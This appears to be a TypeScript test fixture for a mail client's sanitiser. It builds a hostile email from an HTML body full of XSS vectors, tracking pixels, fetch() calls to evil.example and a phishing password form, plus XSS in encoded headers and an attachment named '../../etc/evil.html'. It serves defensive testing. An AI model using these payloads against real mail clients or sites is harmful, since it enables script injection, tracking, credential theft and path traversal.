/** HTML that tries whatever HTML of mail has ever tried. */
const HOSTILE = `<html><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css); body{background:url(https://evil.example/bg.png)} @font-face{font-family:x;src:url(https://evil.example/font.woff)}</style></head>
<body onload="fetch('https://evil.example/onload')" background="https://evil.example/body.png">
<p>这是正文<b>加粗</b></p><script>fetch('https://evil.example/script');top.document.title='owned'</script><scr<script>ipt>top.location='https://evil.example/'</script>
<img src=x onerror="fetch('https://evil.example/onerror');top.document.title='owned'"><img src="https://evil.example/pixel.gif" width="1" height="1"><img srcset="https://evil.example/set.png 1x" src="//evil.example/relative.png"><img src="cid:logo@x" alt="标志">
<svg xmlns="http://www.w3.org/2000/svg" onload="top.document.title='owned'"><script>top.document.title='owned'</script><image href="https://evil.example/svg.png"/></svg><math><maction actiontype="statusline" xlink:href="javascript:top.document.title='owned'">x</maction></math>
<form action="https://evil.example/form" method="post"><input name="password" type="password" autofocus onfocus="top.document.title='owned'"><button formaction="javascript:alert(1)">登录</button></form>
<iframe src="https://evil.example/frame" srcdoc="<script>top.document.title='owned'</script>"></iframe><object data="https://evil.example/object"></object><embed src="https://evil.example/embed"><video src="https://evil.example/video" autoplay></video><audio src="https://evil.example/audio" autoplay></audio>
<a href="javascript:top.document.title='owned'" id="run">点我</a><a href="https://evil.example/link" id="away">网站</a><a href="data:text/html,<script>top.document.title='owned'</script>">数据</a>
<div style="position:fixed;inset:0;background:url(https://evil.example/cover.png);z-index:9999">遮盖</div><div style="width:expression(alert(1));behavior:url(https://evil.example/x.htc)">旧式</div><table background="https://evil.example/table.png"><tr><td background="https://evil.example/cell.png">格</td></tr></table>
<details open ontoggle="top.document.title='owned'"><summary>展开</summary></details><marquee onstart="top.document.title='owned'">跑</marquee></body></html>`

const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNkYPhfz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC'

/** A message with hostile HTML, a picture of its own, and an attachment whose name tries to leave its folder. */
export const hostileMail = (): Buffer =>
  Buffer.from(`From: =?UTF-8?B?${Buffer.from('"><script>alert(1)</script>').toString('base64')}?= <attacker@evil.example>\r\nTo: lin@cn.example\r\nSubject: =?UTF-8?B?${Buffer.from('紧急<img src=x onerror=alert(1)>通知').toString('base64')}?=\r\nDate: Wed, 25 Nov 2026 08:00:00 +0800\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=UTF-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(HOSTILE).toString('base64')}\r\n--r\r\nContent-Type: image/png\r\nContent-ID: <logo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n${PNG}\r\n--r--\r\n--m\r\nContent-Type: text/html; name="../../etc/evil.html"\r\nContent-Disposition: attachment\r\n\r\n<script>alert(1)</script>\r\n--m--\r\n`)
